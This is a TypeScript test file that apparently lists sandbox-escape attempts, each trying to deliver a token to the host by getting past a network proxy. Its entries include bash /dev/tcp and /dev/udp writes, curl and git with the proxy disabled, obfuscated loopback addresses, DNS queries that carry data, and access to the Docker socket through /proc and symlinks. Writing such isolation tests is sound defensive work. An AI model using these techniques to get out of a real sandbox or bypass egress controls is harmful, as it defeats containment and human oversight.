import { attemptsOf } from '../attempt.ts';

const python = { way: 'direct', goal: 'heard', language: 'python' } as const;
const sh = { way: 'direct', goal: 'heard', language: 'sh' } as const;

/** Past the proxy, to the host itself. */
export const direct = [
  ...attemptsOf(
    { ...python, category: 'network by address' },
    {
      'loopback of the host': `tcp('127.0.0.1')`,
      'another loopback address': `tcp('127.0.0.2')`,
      'an address of the host': `tcp(env['HOST_ADDRESS'])`,
      'the unspecified address': `tcp('0.0.0.0')`,
      'loopback in IPv6': `tcp('::1', family=socket.AF_INET6)`,
      'an address mapped into IPv6': `tcp('::ffff:' + env['HOST_ADDRESS'], family=socket.AF_INET6)`,
      'UDP to loopback': `udp('127.0.0.1')`,
      'UDP to an address of the host': `udp(env['HOST_ADDRESS'])`,
      'a socket bound to a chosen address': `
s = socket.socket(); s.settimeout(2); s.bind(('127.0.0.1', 0)); s.connect((env['HOST_ADDRESS'], PORT))
s.sendall(TOKEN.encode()); time.sleep(0.1)`,
      'TCP with data in its first packet': `
s = socket.socket(); s.sendto(TOKEN.encode(), 0x20000000, ('127.0.0.1', PORT)); time.sleep(0.1)`,
    },
  ),
  ...attemptsOf(
    { ...python, category: 'odd spellings of addresses' },
    {
      'a decimal address': `tcp('2130706433')`,
      'an octal address': `tcp('0177.0.0.1')`,
      'a hexadecimal address': `tcp('0x7f.0x0.0x0.0x1')`,
      'a short address': `tcp('127.1')`,
    },
  ),
  ...attemptsOf(
    { ...python, category: 'names and DNS' },
    {
      'localhost by name': `tcp('localhost')`,
      'a question to a name server of the host': `
label = TOKEN.encode(); udp('127.0.0.1', b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + bytes([len(label)]) + label + b'\\x07example\\x00\\x00\\x10\\x00\\x01')`,
      'a question over an address of the host': `
label = TOKEN.encode(); udp(env['HOST_ADDRESS'], b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + bytes([len(label)]) + label + b'\\x00\\x00\\x10\\x00\\x01')`,
      'a question over TCP': `
s = socket.create_connection(('127.0.0.1', PORT), 2); s.sendall(b'\\x00\\x20\\x12\\x34' + TOKEN.encode()); time.sleep(0.1)`,
    },
  ),
  ...attemptsOf(
    { ...sh, category: 'network by program' },
    {
      'curl without the proxy': `curl -s -m 2 --noproxy '*' "http://127.0.0.1:$PORT/$TOKEN"`,
      'curl over another protocol': `printf "$TOKEN" | curl -s -m 1 --noproxy '*' "telnet://$HOST_ADDRESS:$PORT"`,
      "the shell's own sockets": `bash -c 'echo "$TOKEN" > "/dev/tcp/127.0.0.1/$PORT"; sleep 0.2'`,
      "the shell's own datagrams": `bash -c 'echo "$TOKEN" > "/dev/udp/$HOST_ADDRESS/$PORT"; sleep 0.2'`,
      'git without the proxy': `git -c http.proxy= ls-remote "http://127.0.0.1:$PORT/$TOKEN"`,
    },
  ),
  ...attemptsOf(
    { ...python, category: 'sockets of the host' },
    {
      'the Docker socket': `unix(env['DOCKER_SOCKET'])`,
      'the Docker socket by way of a process': `unix('/proc/%s/root%s' % (env['VICTIM'], env['DOCKER_SOCKET']))`,
      'the Docker socket by a link': `
os.symlink(env['DOCKER_SOCKET'], 'd' + TOKEN); unix('d' + TOKEN)`,
      'an abstract socket': `unix('\\0' + env['ABSTRACT_SOCKET'])`,
    },
  ),
];
